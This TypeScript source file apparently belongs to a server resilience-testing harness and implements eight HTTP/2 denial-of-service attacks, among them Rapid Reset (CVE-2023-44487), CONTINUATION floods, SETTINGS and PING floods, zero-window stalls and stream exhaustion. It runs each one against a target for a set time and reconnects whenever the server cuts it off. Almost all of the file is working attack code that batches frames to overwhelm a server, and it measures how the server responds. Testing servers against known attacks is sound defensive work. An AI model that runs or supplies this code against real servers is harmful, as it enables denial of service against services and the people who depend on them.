import { setImmediate as tick } from 'node:timers/promises';
import {
  FLAG,
  FRAME,
  frame,
  headerBlock,
  headersFrame,
  pingFrame,
  RawH2Connection,
  type RawTarget,
  requestFields,
  rstStreamFrame,
  SETTING,
  settingsFrame,
} from './h2-frames.js';

/**
 * The known HTTP/2 attacks, each sent by raw connections (h2-frames.ts) for a
 * bounded time, reconnecting at once when the server cuts one off (an
 * attacker that comes straight back). What a run reports: how many
 * connections it took and how each one ended.
 */

export const ATTACKS = [
  'rapid-reset',
  'continuation-flood',
  'settings-flood',
  'ping-flood',
  'empty-frames',
  'zero-window',
  'huge-headers',
  'stream-exhaustion',
] as const;
export type AttackName = (typeof ATTACKS)[number];

/** What each attack does, one line, for reports and docs. */
export const ATTACK_DESCRIPTION: Readonly<Record<AttackName, string>> = Object.freeze({
  'rapid-reset': 'HEADERS then RST_STREAM(CANCEL) at once, new stream after new stream (CVE-2023-44487)',
  'continuation-flood':
    'one HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB that never end (CVE-2024-27316 family)',
  'settings-flood': 'SETTINGS frames, the ACKs never read (CVE-2019-9515)',
  'ping-flood': 'PING frames, the ACKs never read (CVE-2019-9512)',
  'empty-frames': 'zero-length DATA frames without END_STREAM on an open stream (CVE-2019-9518)',
  'zero-window': 'SETTINGS_INITIAL_WINDOW_SIZE 0, 100 requests, no WINDOW_UPDATE ever (CVE-2019-9517 family)',
  'huge-headers': 'requests of 10,000 header fields (about 160 KiB each) in CONTINUATION frames',
  'stream-exhaustion': 'request streams opened and never ended, past the concurrency limit (CVE-2019-9514 family)',
});

export interface AttackOptions {
  durationMs: number;
  /** Reconnect at once when cut off (default true). */
  reconnect?: boolean;
}

export interface AttackReport {
  attack: AttackName;
  connections: number;
  /** Connections the server ended (GOAWAY or close) while the attack was on. */
  cutOff: number;
  /** How the server ended them: GOAWAY error codes, `closed` for a close without GOAWAY. */
  endings: Record<string, number>;
  /** ms from the first connection to its cut-off, if it was cut off. */
  firstCutOffMs?: number;
  /** Requests the server answered on attacking connections. */
  responses: number;
  resets: Record<string, number>;
}

const CANCEL = 8;
const MAX_FRAME = 16_384;

/** Bytes written per event-loop turn: frames are batched so the attacker is not the bottleneck. */
const BATCH_BYTES = 32 * 1024;

/** Writes frames from `next`, batched, until the connection is cut off or `until`; waits on back-pressure. */
async function blast(conn: RawH2Connection, until: number, next: () => Buffer): Promise<void> {
  while (!conn.cutOff && Date.now() < until) {
    const batch: Buffer[] = [];
    let bytes = 0;
    while (bytes < BATCH_BYTES) {
      const f = next();
      batch.push(f);
      bytes += f.length;
    }
    if (!conn.write(Buffer.concat(batch))) {
      if (conn.cutOff) return;
      await Promise.race([
        new Promise((resolve) => conn.socket.once('drain', resolve)),
        conn.closed,
        new Promise((resolve) => setTimeout(resolve, Math.max(0, until - Date.now())).unref()),
      ]);
    } else await tick();
  }
}

/** Holds until the connection is cut off or `until`. */
async function hold(conn: RawH2Connection, until: number): Promise<void> {
  await Promise.race([conn.closed, new Promise((r) => setTimeout(r, Math.max(0, until - Date.now())).unref())]);
}

/** Header fields of ~16 bytes each, split into a HEADERS frame and CONTINUATION frames. */
function hugeHeaderFrames(streamId: number, fields: number, scheme: string): Buffer {
  const extra = Array.from({ length: fields }, (_, i) => [`x-h${i}`, 'v'.repeat(8)] as const);
  const block = headerBlock([...requestFields('/home', { scheme }), ...extra]);
  const frames: Buffer[] = [];
  for (let at = 0; at < block.length; at += MAX_FRAME) {
    const last = at + MAX_FRAME >= block.length;
    const chunk = block.subarray(at, at + MAX_FRAME);
    frames.push(
      at === 0
        ? headersFrame(streamId, chunk, { endStream: true, endHeaders: last })
        : frame(FRAME.CONTINUATION, last ? FLAG.END_HEADERS : 0, streamId, chunk),
    );
  }
  return Buffer.concat(frames);
}

/** One attacking connection, from connect to cut-off or `until`. */
async function attackOnce(attack: AttackName, target: RawTarget, until: number): Promise<RawH2Connection> {
  const scheme = target.tls ? 'https' : 'http';
  const get = (id: number): Buffer =>
    headersFrame(id, headerBlock(requestFields('/home', { scheme })), { endStream: true });
  let id = 1;
  const nextId = (): number => {
    const current = id;
    id += 2;
    return current;
  };
  switch (attack) {
    case 'rapid-reset': {
      const conn = await RawH2Connection.connect(target);
      await blast(conn, until, () => {
        const s = nextId();
        return Buffer.concat([get(s), rstStreamFrame(s, CANCEL)]);
      });
      return conn;
    }
    case 'continuation-flood': {
      const conn = await RawH2Connection.connect(target);
      conn.write(headersFrame(1, headerBlock(requestFields('/home', { scheme })), { endHeaders: false }));
      let n = 0;
      await blast(conn, until, () => {
        n++;
        return frame(FRAME.CONTINUATION, 0, 1, headerBlock([[`x-c${n}`, 'c'.repeat(MAX_FRAME - 32)]]));
      });
      return conn;
    }
    case 'settings-flood':
    case 'ping-flood': {
      const conn = await RawH2Connection.connect(target);
      // Wait for the server's preface, then stop reading: its ACKs pile up on its side.
      await new Promise((r) => setTimeout(r, 20));
      conn.socket.pause();
      const payload = Buffer.alloc(8);
      await blast(conn, until, () =>
        attack === 'ping-flood' ? pingFrame(payload) : settingsFrame([[SETTING.INITIAL_WINDOW_SIZE, 65_535]]),
      );
      conn.socket.resume();
      return conn;
    }
    case 'empty-frames': {
      const conn = await RawH2Connection.connect(target);
      conn.write(
        headersFrame(1, headerBlock(requestFields('/echo', { scheme, method: 'POST' })), { endStream: false }),
      );
      await blast(conn, until, () => frame(FRAME.DATA, 0, 1));
      return conn;
    }
    case 'zero-window': {
      const conn = await RawH2Connection.connect(target, { settings: [[SETTING.INITIAL_WINDOW_SIZE, 0]] });
      for (let i = 0; i < 100; i++) conn.write(get(nextId()));
      await hold(conn, until);
      return conn;
    }
    case 'huge-headers': {
      const conn = await RawH2Connection.connect(target);
      await blast(conn, until, () => hugeHeaderFrames(nextId(), 10_000, scheme));
      return conn;
    }
    case 'stream-exhaustion': {
      const conn = await RawH2Connection.connect(target);
      await blast(conn, until, () =>
        headersFrame(nextId(), headerBlock(requestFields('/echo', { scheme, method: 'POST' })), { endStream: false }),
      );
      return conn;
    }
  }
}

/** Runs `attack` against `target` for `durationMs`, reconnecting when cut off unless told not to. */
export async function runAttack(attack: AttackName, target: RawTarget, options: AttackOptions): Promise<AttackReport> {
  const started = Date.now();
  const until = started + options.durationMs;
  const report: AttackReport = { attack, connections: 0, cutOff: 0, endings: {}, responses: 0, resets: {} };
  do {
    let conn: RawH2Connection;
    try {
      conn = await attackOnce(attack, target, until);
    } catch {
      // Refused or reset while connecting: the server is shedding; try again.
      report.connections++;
      report.endings.refused = (report.endings.refused ?? 0) + 1;
      await new Promise((r) => setTimeout(r, 5));
      continue;
    }
    report.connections++;
    // A GOAWAY is followed by a close; give it a moment to arrive.
    if (conn.outcome.goaway !== undefined && !conn.outcome.closed) {
      await Promise.race([conn.closed, new Promise((r) => setTimeout(r, 200))]);
    }
    const cut = conn.cutOff;
    if (cut) {
      report.cutOff++;
      report.firstCutOffMs ??= report.connections === 1 ? Date.now() - started : undefined;
      const ending = conn.outcome.goaway ?? 'closed';
      report.endings[ending] = (report.endings[ending] ?? 0) + 1;
    }
    report.responses += conn.outcome.responses;
    for (const [code, n] of Object.entries(conn.outcome.resets)) report.resets[code] = (report.resets[code] ?? 0) + n;
    conn.destroy();
    // A connection that was not cut off lasted until the end of the attack.
    if (!cut) break;
  } while (options.reconnect !== false && Date.now() < until);
  return report;
}
